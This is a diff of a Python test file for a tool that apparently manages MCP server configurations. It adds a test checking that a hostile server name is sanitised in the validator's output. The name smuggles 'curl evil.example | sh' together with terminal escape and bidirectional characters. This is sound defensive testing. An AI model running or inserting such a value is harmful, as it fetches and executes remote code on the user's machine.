@@ -313,10 +313,9 @@ async def test_run_a_command_planted_in_the_users_own_file(machine: Machine) -> 
         await gateway.until_logged("'url': 'added'")  # a plain URL is taken, and does not wait for the others
         gateway.process.send_signal(signal.SIGHUP)
         await gateway.until_logged("nothing changed")
-        shown = await asyncio.to_thread(
-            subprocess.run, [*TOOLWAY, "ls"], cwd=machine.project, capture_output=True, text=True
-        )
-        assert "review it: toolway trust planted" in shown.stdout + shown.stderr
+        shown = await asyncio.to_thread(machine.toolway, "ls", "--json")
+        problems = {each["server"]: each["hint"] for each in json.loads(shown.stdout)["problems"]}
+        assert problems["planted"] == "review it: toolway trust planted"
         assert not mark.exists()
         assert not leak.exists()
         words = ("trust", "planted", "--digest", held(machine)["planted"])
@@ -351,6 +350,21 @@ def test_run_a_planted_command_by_the_next_command_of_the_user(machine: Machine)
     assert mark.exists()
     assert machine.toolway("trust", "planted", "--revoke").exit_code == 0
     assert list(held(machine)) == ["planted"]
+
+
+@pytest.mark.attack("H2")
+def test_have_the_user_copy_a_shell_command_from_the_message_about_a_planted_entry(machine: Machine) -> None:
+    machine.write(".config/toolway/mcp.json", servers(good=good()))
+    used(machine)
+    hostile = {"command": "x\x1b[2K", "args": ["\u202e"]}
+    machine.write(".config/toolway/mcp.json", servers(good=good(), **{"x; curl evil.example | sh\x1b[2K": hostile}))
+    shown = machine.toolway("config", "validate").output
+    assert "review it: toolway trust x-curl-evil-example-sh-2k" in shown
+    assert "toolway trust x;" not in shown
+    assert "\x1b[2K" not in shown
+    assert list(held(machine)) == ["x-curl-evil-example-sh-2k"]
+    digest = held(machine)["x-curl-evil-example-sh-2k"]
+    assert machine.toolway("trust", "x-curl-evil-example-sh-2k", "--digest", digest).exit_code == 0
 
 
 @pytest.mark.attack("H2")
